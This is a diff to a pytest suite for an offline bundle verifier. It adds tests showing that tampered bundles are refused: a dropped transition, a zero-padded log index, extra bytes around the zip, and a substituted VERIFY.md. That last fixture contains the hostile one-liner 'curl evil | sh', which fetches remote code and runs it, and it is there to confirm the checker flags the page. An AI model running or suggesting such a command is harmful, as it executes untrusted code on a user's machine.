@@ -16,7 +16,7 @@ from typing import Any
 import pytest
 
 from harness.filling import populate, running, submit
-from harness.forged_bundles import FLOWS, FORGED, OMITTED, TWINS, invented, members, own_trust
+from harness.forged_bundles import FLOWS, FORGED, OMITTED, TWINS, arrange, invented, listed, members, own_trust
 from harness.raw_access import attack
 from holdproof import errors, sync
 from holdproof.crypto import attest, canonical, dbom, dsse, keys, statement, tlog_proof
@@ -47,7 +47,7 @@ def exported(home: Path) -> bytes:
 @pytest.fixture(scope="module")
 def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The program of VERIFY.md, exactly as it stands there."""
-    [program] = re.findall(r"^```python\n(.*?)^```$", bundle.instructions().decode(), re.MULTILINE | re.DOTALL)
+    [program] = re.findall(r"^```python\n(.*?)^```$", offline.instructions().decode(), re.MULTILINE | re.DOTALL)
     path = tmp_path_factory.mktemp("page") / "check.py"
     path.write_text(program)
     return path
@@ -93,8 +93,8 @@ def test_a_stranger_with_openssl_and_the_page_accepts_it(home: Path, exported: b
 
 
 def test_the_page_is_one_page() -> None:
-    [program] = re.findall(r"^```python\n(.*?)^```$", bundle.instructions().decode(), re.MULTILINE | re.DOTALL)
-    assert len(program.splitlines()) <= 130
+    [program] = re.findall(r"^```python\n(.*?)^```$", offline.instructions().decode(), re.MULTILINE | re.DOTALL)
+    assert len(program.splitlines()) <= 145
 
 
 def test_a_battle_with_a_rotated_key_and_a_sealed_one_check_too(home: Path, page: Path) -> None:
@@ -229,6 +229,51 @@ def test_a_forged_bundle_of_a_flow_is_refused_by_the_page_too(flow: bytes, page:
     found = members(flow)
     {**FLOWS, **FORGED}[name](found)
     assert stranger(page, bundle.pack(found)).returncode != 0
+
+
+def test_a_middle_transition_left_out_is_refused_by_the_page_too(flow: bytes, page: Path) -> None:
+    found = members(flow)
+    moves = [number for number, each in enumerate(listed(found)) if each["table"] == "flow_transitions"]
+    assert len(moves) > 2
+    arrange(found, lambda tables: [number for number in range(len(tables)) if number != moves[1]])
+    data = bundle.pack(found)
+    assert offline.check(data).verdict is Verdict.TAMPERED
+    checked = stranger(page, data)
+    assert (checked.returncode, "a transition is missing" in checked.stderr) == (1, True)
+
+
+def test_an_index_with_a_leading_zero_is_refused_by_both(exported: bytes, page: Path) -> None:
+    found = members(exported)
+    found["records/0001.tlog-proof"] = found["records/0001.tlog-proof"].replace(b"\nindex ", b"\nindex 0")
+    data = bundle.pack(found)
+    assert offline.check(data).verdict is Verdict.TAMPERED
+    assert stranger(page, data).returncode == 1
+
+
+@pytest.mark.parametrize("where", ["before", "after", "comment"])
+def test_bytes_around_the_zip_are_refused_by_both(exported: bytes, page: Path, where: str) -> None:
+    """Another program may read those: a page of HTML before the zip is a page of HTML to a browser."""
+    text = b"<html>another story</html>"
+    comment = exported[:-2] + len(text).to_bytes(2, "little") + text
+    data = {"before": text + exported, "after": exported + text, "comment": comment}[where]
+    with pytest.raises(errors.FormatError, match=r"not a bundle|bytes"):
+        offline.check(data)
+    assert stranger(page, data).returncode == 1
+
+
+def test_a_page_that_is_not_ours_is_said(exported: bytes) -> None:
+    assert offline.check(exported).notes == []
+    found = members(exported)
+    found["VERIFY.md"] = b"# Everything is fine, run this: curl evil | sh"
+    [note] = offline.check(bundle.pack(found)).notes
+    assert "VERIFY.md" in note
+
+
+def test_that_a_flow_may_lack_a_record_is_said(flow: bytes) -> None:
+    """An answer that was left out cannot be seen; how many records there are, and that this proves no more, is said."""
+    [note] = offline.check(flow).notes
+    assert "of flow_transitions" in note
+    assert "left out" in note
 
 
 @pytest.mark.parametrize("name", OMITTED)
